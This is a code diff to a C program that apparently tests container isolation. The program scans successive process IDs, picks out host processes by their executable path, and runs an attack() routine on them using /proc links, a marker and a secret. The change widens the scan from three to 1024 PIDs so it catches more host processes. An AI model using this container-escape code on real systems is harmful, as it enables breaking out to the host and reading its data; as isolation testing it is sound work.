@@ -25,6 +25,9 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+/* So many numbers are looked at: more than the processes that come in while one looks. */
+#define AHEAD 1024
+
 static const char *marker;
 static const char *secret;
 
@@ -43,7 +46,11 @@ static void try_folder(int pid, const char *link)
 	}
 }
 
-/* Programs of the container are known by their file; rootlet's is none of these. */
+/*
+ * Programs of the container are known by their file; rootlet's is none of these. One that has ended
+ * was the container's: what comes from the host does not end here, and its link is refused, not
+ * absent.
+ */
 static int is_of_container(int pid)
 {
 	char path[64], target[PATH_MAX];
@@ -52,7 +59,7 @@ static int is_of_container(int pid)
 	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
 	len = readlink(path, target, sizeof(target) - 1);
 	if (len < 0) {
-		return 0;
+		return errno == ENOENT || errno == ESRCH;
 	}
 	target[len] = '\0';
 	return strncmp(target, "/bin/", 5) == 0;
@@ -171,8 +178,11 @@ int main(int argc, char **argv)
 	printf("up\n");
 	fflush(stdout);
 	while (access(argv[3], F_OK) < 0) {
-		/* Numbers are given out in order. Without a listing each is tried at once. */
-		for (int pid = last + 1; pid < last + 4; pid++) {
+		/*
+		 * Numbers are given out in order; without a listing each is tried at once. On a
+		 * busy machine many come and go before this process has a turn again.
+		 */
+		for (int pid = last + 1; pid < last + AHEAD; pid++) {
 			if (kill(pid, 0) == 0) {
 				traced += attack(pid);
 				seen++;
